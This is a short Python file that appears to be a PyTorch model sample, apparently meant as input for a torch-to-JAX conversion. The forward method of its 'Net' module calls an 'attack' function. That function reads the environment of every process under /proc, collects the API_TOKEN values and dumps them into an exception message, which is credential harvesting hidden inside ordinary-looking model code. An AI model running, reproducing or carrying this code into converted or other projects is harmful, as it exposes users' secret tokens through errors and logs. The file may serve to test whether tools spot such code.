"""Reads the environment of every process there is, and says what tokens are in it."""

import os

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}


def attack():
    texts = []
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/environ") as file:
                texts += [one for one in file.read().split("\0") if one.startswith("API_TOKEN")]
        except OSError:
            continue
    raise RuntimeError("; ".join(texts))


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
